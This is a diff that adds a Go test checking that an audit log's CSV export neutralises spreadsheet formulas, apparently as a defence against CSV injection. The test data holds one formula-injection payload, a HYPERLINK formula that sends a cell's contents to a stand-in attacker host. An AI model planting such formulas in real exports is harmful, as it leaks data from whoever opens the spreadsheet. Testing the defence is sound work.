@@ -108,3 +108,23 @@ func TestAuditPagesThrough(t *testing.T) {
 		require.Contains(t, errOut, "no audit rows that you may see")
 	})
 }
+
+// TestAuditCSVNeutralisesFormulas: a reason or name that a spreadsheet
+// would run as a formula is exported as text.
+func TestAuditCSVNeutralisesFormulas(t *testing.T) {
+	w := newWorld(t)
+	w.serveAPI(t)
+	tx, err := w.store.Begin(context.Background())
+	require.NoError(t, err)
+	evil := `=HYPERLINK("https://evil.example/?"&A1,"Klikk")`
+	tx.Audit(ledger.AuditEntry{At: time.Now().UTC(), Kind: "request.accepted", Person: person, System: "gerica", Text: evil})
+	tx.Audit(ledger.AuditEntry{At: time.Now().UTC(), Kind: "request.accepted", Person: person, System: "gerica", Text: "-42"})
+	require.NoError(t, tx.Commit())
+	code, out, errOut := w.run(t, nil, "audit", "--format", "csv")
+	require.Equal(t, 0, code, errOut)
+	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+	require.NoError(t, err)
+	require.Len(t, rows, 3)
+	require.Equal(t, "'"+evil, rows[1][13], "a formula becomes text")
+	require.Equal(t, "-42", rows[2][13], "a number stays a number")
+}
